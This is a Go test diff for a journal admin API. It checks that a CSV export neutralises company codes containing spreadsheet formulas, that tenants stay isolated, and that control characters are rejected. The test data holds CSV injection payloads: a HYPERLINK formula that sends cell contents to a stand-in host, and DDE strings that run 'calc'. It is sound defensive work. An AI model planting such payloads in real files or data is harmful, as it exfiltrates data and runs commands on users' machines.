@@ -3,9 +3,11 @@ package journaladmin_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/url"
+	"slices"
 	"strings"
 	"testing"
 
@@ -98,6 +100,108 @@ func TestJournalReportCompany(t *testing.T) {
 		if err := json.Unmarshal(body, &e); err != nil || resp.StatusCode != 400 || len(e.Errors) == 0 ||
 			e.Errors[0].Target != c.target || !strings.Contains(e.Errors[0].Message, c.message) {
 			t.Errorf("%s: %d %s; want 400 naming %q with %q", c.name, resp.StatusCode, body, c.target, c.message)
+		}
+	}
+}
+
+// TestJournalExportCompanyFormulas posts, through the API, a sale, an
+// accrual and an asset movement whose company codes (seller.company,
+// buyer.company, owner.company) are spreadsheet formulas: the wire
+// format lets them through, as they are printable text. The CSV export's
+// company column holds each one behind an apostrophe, so that a
+// spreadsheet program shows it as text and runs nothing; the report of
+// each such company still finds its transaction. Another tenant's export
+// has none of them, and a company code holding a control character is
+// refused naming the field that carries it.
+func TestJournalExportCompanyFormulas(t *testing.T) {
+	s := newServer(t)
+	apiToken := authtest.Token(t, s.iss, "acme", oauth.DefaultAudience)
+	admin := authtest.Token(t, s.iss, "acme", oauth.DefaultAdminAudience)
+	other := authtest.Token(t, s.iss, "beta", oauth.DefaultAdminAudience)
+	calcs := journaltest.Companies()
+	byID := map[string]journaltest.Calc{}
+	for _, c := range calcs {
+		byID[c.ID] = c
+	}
+	attacks := []struct{ id, old, company string }{
+		{"S-EAST-CA", `"company":"EAST"`, `=HYPERLINK("http://ev.il/?"&A1)`},
+		{"P-EAST-WA", `"company":"EAST"`, `+cmd|' /C calc'!A0`},
+		{"O-WEST-MN", `"company":"WEST"`, `@SUM(1+1)*cmd|' /C calc'!A0`},
+		{"S-WEST-CA", `"company":"WEST"`, `-2+3`},
+	}
+	for _, a := range attacks {
+		enc, err := json.Marshal(a.company)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c := byID[a.id]
+		body := strings.Replace(string(c.Body), a.old, `"company":`+string(enc), 1)
+		if body == string(c.Body) {
+			t.Fatalf("%s has no %s", a.id, a.old)
+		}
+		if resp, b := s.send(t, "POST", "/api/v2"+c.Path, apiToken, body); resp.StatusCode != 200 {
+			t.Fatalf("posting %s of company %q: %d %s", a.id, a.company, resp.StatusCode, b)
+		}
+	}
+
+	resp, body := s.send(t, "GET", "/admin/v1/journal/export?format=csv&from=2026-06-01&to=2026-06-30", admin, "")
+	if resp.StatusCode != 200 {
+		t.Fatalf("export: %d %s", resp.StatusCode, body)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+	if err != nil || len(recs) < 2 {
+		t.Fatalf("export: %v\n%s", err, body)
+	}
+	col := slices.Index(recs[0], "company")
+	idCol := slices.Index(recs[0], "transactionId")
+	if col < 0 || idCol < 0 {
+		t.Fatalf("export header %v", recs[0])
+	}
+	seen := map[string]bool{}
+	for _, rec := range recs[1:] {
+		for _, a := range attacks {
+			if rec[idCol] != a.id {
+				continue
+			}
+			seen[a.id] = true
+			if rec[col] != "'"+a.company {
+				t.Errorf("CSV company cell of %s: %q, want %q", a.id, rec[col], "'"+a.company)
+			}
+		}
+		if c := rec[col]; c != "" && strings.ContainsAny(c[:1], "=+-@") {
+			t.Errorf("CSV row of %s: company cell %q starts a formula", rec[idCol], c)
+		}
+	}
+	for _, a := range attacks {
+		if !seen[a.id] {
+			t.Errorf("the export has no row of %s", a.id)
+		}
+		resp, body := s.send(t, "GET", "/admin/v1/journal/report?from=2026-06-01&to=2026-06-30&company="+url.QueryEscape(a.company), admin, "")
+		var got struct{ Data journal.Report }
+		if err := json.Unmarshal(body, &got); err != nil || resp.StatusCode != 200 || got.Data.Transactions != 1 ||
+			got.Data.Company == nil || *got.Data.Company != a.company {
+			t.Errorf("report of company %q: %d %s", a.company, resp.StatusCode, body)
+		}
+	}
+
+	// Another tenant's admin exports its own journal: none of acme's rows.
+	resp, body = s.send(t, "GET", "/admin/v1/journal/export?format=csv&from=2026-06-01&to=2026-06-30", other, "")
+	if resp.StatusCode != 200 || bytes.Contains(body, []byte("HYPERLINK")) || bytes.Count(body, []byte("\n")) != 1 {
+		t.Errorf("beta's export: %d %s", resp.StatusCode, body)
+	}
+
+	// A control character in a company code is refused on each party.
+	for _, c := range []struct{ id, old, field string }{
+		{"S-EAST-WA", `"company":"EAST"`, "seller.company"},
+		{"P-EAST-WA", `"company":"EAST"`, "buyer.company"},
+		{"O-WEST-MN", `"company":"WEST"`, "owner.company"},
+	} {
+		calc := byID[c.id]
+		body := strings.Replace(string(calc.Body), c.old, `"company":"EA\u000d=1+1"`, 1)
+		body = strings.Replace(body, `"transactionId":"`+c.id+`"`, `"transactionId":"`+c.id+`-CTL"`, 1)
+		resp, b := s.send(t, "POST", "/api/v2"+calc.Path, apiToken, body)
+		if resp.StatusCode != 400 || !bytes.Contains(b, []byte(c.field)) {
+			t.Errorf("%s with a carriage return in its company: %d %s; want 400 naming %s", c.id, resp.StatusCode, b, c.field)
 		}
 	}
 }
